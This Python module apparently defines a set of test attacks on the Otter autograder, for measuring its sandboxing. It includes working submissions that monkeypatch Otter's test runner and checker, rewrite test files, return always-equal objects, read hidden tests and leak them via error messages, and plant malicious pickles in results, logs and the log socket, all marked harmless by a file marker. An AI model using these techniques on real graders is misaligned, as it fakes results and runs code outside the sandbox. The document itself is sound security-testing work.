"""Attacks on Otter's grading, for `otter_attack_table.py`: harmless ones, that only leave a mark.

`MARKER` in a text stands for a file; that it exists afterwards shows that code ran outside the
sandbox. Nothing here is run but in a place that the script makes for it.
"""

from __future__ import annotations

import io
import json
import pickle
import zipfile
from dataclasses import dataclass, field
from pathlib import Path

RIGHT = "def double(x):\n    return 2 * x\n\ndef halve(x):\n    return x / 2\n"
WRONG = "def double(x):\n    return 0\n\ndef halve(x):\n    return 0\n"
SECRET = "hidden_numbers"  # in the name of every hidden check


@dataclass(frozen=True, slots=True)
class Attack:
    """A submission, and what it is after.

    `wins`: "points" (wrong answers that earn some), "code" (the marker), "secret" (the name of a
    hidden check in the results), "harm" (right answers that earn less than they should: `fair`).
    """

    name: str
    title: str
    wins: str
    cells: tuple[str, ...]
    files: dict[str, bytes] = field(default_factory=dict)
    fair: float = 0.0


class Planted:
    """A pickle that leaves the mark where it is loaded."""

    def __init__(self, marker: Path) -> None:
        self.marker = marker

    def __reduce__(self) -> tuple[object, ...]:
        return open, (str(self.marker), "w")


_LOAD_PLANTED = """
import io, pickle
class Planted:
    def __reduce__(self): return io.open, ("MARKER", "w")
payload = pickle.dumps(Planted())
"""

_PASS_ALL = """
from otter.test_files.abstract_test import TestCaseResult
def run(self, env):
    self.test_case_results = [
        TestCaseResult(test_case=case, message="", passed=True) for case in self.test_cases]
"""

_ATTACKS = (
    Attack("honest", "right answers, no attack", "harm", (RIGHT,), fair=10),
    Attack("wrong", "wrong answers, no attack", "points", (WRONG,)),
    Attack(
        "test_class",
        "replaces `run` of Otter's test class",
        "points",
        (
            f"{_PASS_ALL}\nfrom otter.test_files import ExceptionTestFile\n"
            f"ExceptionTestFile.run = run\n{WRONG}",
        ),
    ),
    Attack(
        "checker",
        "replaces the checker, and multiplies the points",
        "points",
        (
            f"{_PASS_ALL}\nfrom otter.execute import Checker\n"
            "before = Checker.get_results.__func__\n"
            "def results(cls):\n"
            "    found = before(cls)\n"
            "    for one in found:\n"
            "        for case in one.test_cases: case.points = 499.5\n"
            "        run(one, {})\n"
            "    return found\n"
            f"Checker.get_results = classmethod(results)\n{WRONG}",
        ),
    ),
    Attack(
        "test_files",
        "overwrites the test files",
        "points",
        (
            "import glob\n"
            "for path in glob.glob('tests/*.py'):\n"
            "    text = open(path).read().replace('assert ', 'assert True or ')\n"
            f"    open(path, 'w').write(text)\n{WRONG}",
        ),
    ),
    Attack(
        "result_pickle",
        "puts code into the pickle of the results",
        "code",
        (f"{_LOAD_PLANTED}\npickle.dump = lambda value, file: file.write(payload)\n{WRONG}",),
    ),
    Attack("log_pickle", "hands in a pickle as Otter's log", "code", (WRONG,), {".OTTER_LOG": b""}),
    Attack(
        "log_socket",
        "sends a pickle to Otter's log server",
        "code",
        (
            f"{_LOAD_PLANTED}\n"
            "import gc, logging.handlers, socket, struct, time\n"
            "for one in gc.get_objects():\n"
            "    if isinstance(one, logging.handlers.SocketHandler):\n"
            "        with socket.create_connection((one.host, one.port)) as line:\n"
            "            line.sendall(struct.pack('>L', len(payload)) + payload)\n"
            f"            time.sleep(1)\n{WRONG}",
        ),
    ),
    Attack(
        "equal",
        "answers with an object that equals everything",
        "points",
        (
            "class Same(float):\n"
            "    def __eq__(self, other): return True\n"
            "    def __ne__(self, other): return False\n"
            "    def __sub__(self, other): return 0.0\n"
            "    __rsub__ = __sub__\n"
            "    def __abs__(self): return 0.0\n"
            "    __hash__ = None\n"
            "def double(x): return Same(1)\ndef halve(x): return Same(1)\n",
        ),
    ),
    Attack(
        "frames",
        "looks for the reference in the frames of its caller",
        "points",
        (
            "import sys\n"
            "def look(name, x):\n"
            "    frame = sys._getframe(2)\n"
            "    while frame:\n"
            "        for place in (frame.f_locals, frame.f_globals):\n"
            "            right = place.get('_right_' + name)\n"
            "            if callable(right): return right(x)\n"
            "        frame = frame.f_back\n"
            "    return 0\n"
            "def double(x): return look('double', x)\ndef halve(x): return look('halve', x)\n",
        ),
    ),
    Attack(
        "reads_tests",
        "reads the hidden tests and puts them into its error message",
        "secret",
        (
            "import glob\n"
            "places = ('tests', '../source/tests', '../source/moelab/*/lab',\n"
            "          '/autograder/source/tests')\n"
            "text = ''\n"
            "for place in places:\n"
            "    for path in glob.glob(place + '/*.py'): text += open(path).read()\n"
            "at = max(text.find('hidden_numbers') - 40, 0)\n"
            "def double(x): raise ValueError(text[at:at + 400])\n",
        ),
    ),
    Attack(
        "own_modules",
        "brings modules under names that Otter's kernel imports",
        "code",
        (WRONG,),
        dict.fromkeys(("ipykernel_launcher.py", "numpy.py", "otter/__init__.py"), b""),
    ),
    Attack(
        "os_exit",
        "ends the process in its last cell",
        "harm",
        (RIGHT, "import os; os._exit(0)"),
        fair=10,
    ),
    Attack(
        "system_exit",
        "raises SystemExit in one function, the other is right",
        "harm",
        (RIGHT, "def halve(x):\n    raise SystemExit\n"),
        fair=5,
    ),
    Attack("endless", "never ends one cell", "harm", (RIGHT, "while True:\n    pass\n"), fair=10),
)


def attacks() -> tuple[Attack, ...]:
    """All attacks, the two controls first."""
    return _ATTACKS


def submission(attack: Attack, folder: Path, marker: Path) -> Path:
    """Write the file to hand in: a notebook, or a zip where more belongs to it."""
    cells = [
        {"cell_type": "code", "execution_count": None, "metadata": {}, "outputs": [], "source": one}
        for one in (text.replace("MARKER", str(marker)) for text in attack.cells)
    ]
    content = {"cells": cells, "metadata": {}, "nbformat": 4, "nbformat_minor": 5}
    notebook = json.dumps(content).encode()
    if not attack.files:
        path = folder / "lab.ipynb"
        path.write_bytes(notebook)
        return path
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as archive:
        archive.writestr("lab.ipynb", notebook)
        for name in attack.files:
            log = name == ".OTTER_LOG"
            trap = pickle.dumps(Planted(marker)) if log else f"open({str(marker)!r}, 'w')\n"
            archive.writestr(name, trap)
    path = folder / "lab.zip"
    path.write_bytes(packed.getvalue())
    return path
